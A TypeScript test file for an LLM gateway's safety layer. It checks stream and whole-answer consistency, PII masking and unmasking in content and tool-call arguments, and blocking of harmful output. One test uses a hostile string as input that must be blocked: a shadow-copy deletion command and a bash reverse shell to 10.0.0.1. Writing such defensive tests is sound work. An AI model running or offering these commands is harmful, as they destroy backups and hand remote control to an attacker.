import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createSinkRecorder } from '../../../tests/contract/exchange.ts'
import { joinChunks } from '../../../tests/contract/accumulate.ts'
import { GatewayError } from '../../errors.ts'
import type { ChatChunk, ChatCompletion, Delta } from '../../openai/chat-completion.ts'
import type { ChatExchange, StreamSink } from '../../providers/adapter.ts'
import { createVault, type Vault } from '../../safety/masking/vault.ts'
import { DEFAULT_POLICY } from '../../safety/policy/defaults.ts'
import { preparePolicy } from '../../safety/prepare.ts'
import { createAnswerInspector } from '../../safety/stream/answer-inspector.ts'
import { guardExchange } from './guarded-exchange.ts'

const prepared = preparePolicy(DEFAULT_POLICY)
const BASE = { id: 'c', created: 1, model: 'm' }

/** An exchange that answers with this message, whole or in these deltas. */
function exchangeOf(completion: ChatCompletion | null, deltas: readonly Delta[] = []) {
  let sink: StreamSink | undefined
  const exchange: ChatExchange = {
    wire: { path: '/', headers: [], body: '' },
    framing: 'sse',
    warnings: [],
    readAnswer: () => {
      if (completion === null) throw new Error('No whole answer.')
      return { completion, bytes: new Uint8Array(1), usage: null }
    },
    openStream(opened) {
      sink = opened
      return { push: () => {}, end: () => {} }
    },
  }
  const run = () => {
    for (const delta of deltas) sink?.chunk(toChunk(delta, null))
    sink?.chunk(toChunk({}, 'stop'))
    sink?.finish()
  }
  return { exchange, run }
}

function toChunk(delta: Delta, reason: 'stop' | null, logprobs?: unknown): ChatChunk {
  const choice = { index: 0, delta, finish_reason: reason }
  const choices = [logprobs === undefined ? choice : { ...choice, logprobs }]
  return { ...BASE, object: 'chat.completion.chunk', choices }
}

function guard(exchange: ChatExchange, vault: Vault | null = null) {
  return guardExchange(exchange, {
    createInspector: () => createAnswerInspector({ prepared, nowMs: 0, vault }),
    conclude: (verdict) =>
      verdict.allowed ? null : new GatewayError('content_blocked', 'No.', { details: {} }),
  })
}

function whole(message: Partial<ChatCompletion['choices'][number]['message']>): ChatCompletion {
  const full = { role: 'assistant' as const, content: null, refusal: null, ...message }
  const choice = { index: 0, message: full, finish_reason: 'stop' as const, logprobs: null }
  return { ...BASE, object: 'chat.completion', choices: [choice] }
}

function stream(deltas: readonly Delta[], vault: Vault | null = null) {
  const { exchange, run } = exchangeOf(null, deltas)
  const recorder = createSinkRecorder()
  guard(exchange, vault).openStream(recorder.sink)
  run()
  return recorder.record()
}

const header = () => undefined
const readWhole = (completion: ChatCompletion, vault: Vault | null = null) =>
  guard(exchangeOf(completion).exchange, vault).readAnswer(new Uint8Array(), header)

const cut = (text: string, lengths: readonly number[]): string[] => {
  const parts: string[] = []
  let at = 0
  for (let turn = 0; at < text.length; turn += 1) {
    const length = lengths[turn % lengths.length] ?? 1
    parts.push(text.slice(at, at + length))
    at += length
  }
  return parts
}

const sentence = fc.constantFrom(
  'My SSN is 412-68-9103. ',
  'Write to ann.smith@example.org please. ',
  'Call +1 415 555 2671 after six. ',
  'Nothing of note here. ',
  'The total is 412 689 103 units. ',
  'Emoji 😀 and ünïcode. ',
)

describe('an answer', () => {
  it('is the same whole and streamed, however it is cut', () => {
    fc.assert(
      fc.property(
        fc.array(sentence, { minLength: 1, maxLength: 5 }),
        fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 5 }),
        (sentences, lengths) => {
          const text = sentences.join('')
          const { completion } = readWhole(whole({ content: text }))
          const deltas = cut(text, lengths).map((content): Delta => ({ content }))
          const { chunks, end } = stream(deltas)
          expect(end).toBe('finished')
          expect(joinChunks(chunks).content ?? '').toBe(completion.choices[0]?.message.content)
        },
      ),
      { numRuns: 60 },
    )
  })

  it('keeps its own bytes where nothing had to be changed', () => {
    expect(readWhole(whole({ content: 'Paris.' })).bytes).not.toBeNull()
    expect(readWhole(whole({ content: 'My SSN is 412-68-9103.' })).bytes).toBeNull()
  })

  it('has the caller’s values in arguments of tools, as JSON, also across chunks', () => {
    const vault = createVault('k7q2')
    const value = 'ann "a" smith@example.org'
    const placeholder = vault.placeholderFor('email', value)
    const text = `{"to":"${placeholder}","n":1}`
    const call = (at: string): Delta => ({
      tool_calls: [{ index: 0, function: { arguments: at } }],
    })
    const deltas: Delta[] = [
      {
        tool_calls: [
          { index: 0, id: 'x', type: 'function', function: { name: 'f', arguments: '' } },
        ],
      },
      ...cut(text, [3, 1, 5]).map(call),
    ]
    const { chunks } = stream(deltas, vault)
    const [streamed] = joinChunks(chunks).tool_calls ?? []
    expect(JSON.parse(streamed?.function?.arguments ?? '')).toEqual({ to: value, n: 1 })
    const tool_calls = [
      { id: 'x', type: 'function' as const, function: { name: 'f', arguments: text } },
    ]
    const [read] = readWhole(whole({ tool_calls }), vault).completion.choices
    const [called] = read?.message.tool_calls ?? []
    expect(JSON.parse(called?.function?.arguments ?? '')).toEqual({ to: value, n: 1 })
  })

  it('ends a text before another begins, as SDKs expect it', () => {
    const begin = (index: number): Delta => ({
      tool_calls: [
        { index, id: `c${index}`, type: 'function', function: { name: 'f', arguments: '' } },
      ],
    })
    const args = (index: number, text: string): Delta => ({
      tool_calls: [{ index, function: { arguments: text } }],
    })
    const { chunks } = stream([
      { role: 'assistant', content: '' },
      { reasoning_content: 'I think' },
      { content: 'Let me look' },
      begin(0),
      args(0, '{"a":'),
      args(0, '1}'),
      begin(1),
      args(1, '{"b":2}'),
    ])
    const order = chunks.flatMap(({ choices }) =>
      choices.flatMap(({ delta }) => [
        ...(delta.reasoning_content ? ['reasoning'] : []),
        ...(delta.content ? ['content'] : []),
        ...(delta.tool_calls ?? []).map(({ index }) => `call ${index}`),
      ]),
    )
    expect(order.filter((name, at) => name !== order[at - 1])).toEqual([
      'reasoning',
      'content',
      'call 0',
      'call 1',
    ])
    expect(joinChunks(chunks)).toMatchObject({
      content: 'Let me look',
      tool_calls: [{ function: { arguments: '{"a":1}' } }, { function: { arguments: '{"b":2}' } }],
    })
  })

  it('gives no copy of what it masks: neither token probabilities nor a provider’s own fields', () => {
    const secret = '412-68-9103'
    const { exchange } = exchangeOf(null)
    const recorder = createSinkRecorder()
    let sink: StreamSink | undefined
    guard({
      ...exchange,
      openStream(opened) {
        sink = opened
        return { push: () => {}, end: () => {} }
      },
    }).openStream(recorder.sink)
    for (const part of ['My SSN is ', '412-', '68-9103', '. Bye']) {
      const tokens = { content: [{ token: part, logprob: -1, bytes: null, top_logprobs: [] }] }
      sink?.chunk(toChunk({ content: part }, null, tokens))
    }
    const copy = { reasoning_details: [{ text: secret }] }
    sink?.chunk(toChunk(copy as unknown as Delta, null))
    sink?.chunk(toChunk({}, 'stop'))
    sink?.finish()
    const text = JSON.stringify(recorder.record().chunks)
    expect(text).toContain('[REDACTED_US_SSN]')
    expect(text).toContain('"token":"My SSN is "')
    expect(text).not.toContain('412-')
    expect(text).not.toContain('68-9103')
  })

  it('keeps a provider’s own fields, and token probabilities, where nothing is masked', () => {
    const copy = { reasoning_details: [{ text: 'thinking' }] } as unknown as Delta
    const { chunks } = stream([{ content: 'Well, ' }, copy, { content: 'yes.' }])
    expect(JSON.stringify(chunks)).toContain('reasoning_details')
  })

  it('lets nothing out after the place where it has to stop', () => {
    const harm = 'vssadmin delete shadows /all /quiet ; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'
    const { chunks, end } = stream([
      { content: 'Here is what you wanted to have. ' },
      { content: `${harm}. ` },
      { content: 'And then some more of it. '.repeat(20) },
    ])
    expect(end).toMatchObject({ code: 'content_blocked' })
    expect(JSON.stringify(chunks)).not.toContain('And then')
    expect(readWhole(whole({ content: harm })).blocked?.code).toBe('content_blocked')
  })
})
